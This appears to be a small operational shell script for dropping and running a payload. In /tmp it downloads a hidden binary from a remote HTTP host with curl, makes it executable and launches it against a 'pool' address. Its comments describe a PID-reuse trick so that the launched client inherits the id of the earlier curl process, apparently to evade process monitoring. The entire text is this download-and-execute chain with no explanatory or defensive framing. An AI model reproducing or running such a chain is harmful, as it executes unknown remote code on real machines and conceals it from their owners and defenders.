# between the download and the run so many threads begin and end that the pool client gets the id that curl had
#http 203.0.113.77:8017
#pool 198.51.100.126:443:drop
#bind wrap:/usr/local/bin/wrap
cd /tmp; uname -a; curl -so .u http://203.0.113.77:8017/strat & had=$!; wait; chmod +x .u; wrap $had; ./.u 198.51.100.126 443 1500 6 & echo "$had $!"; sleep 13; kill %1
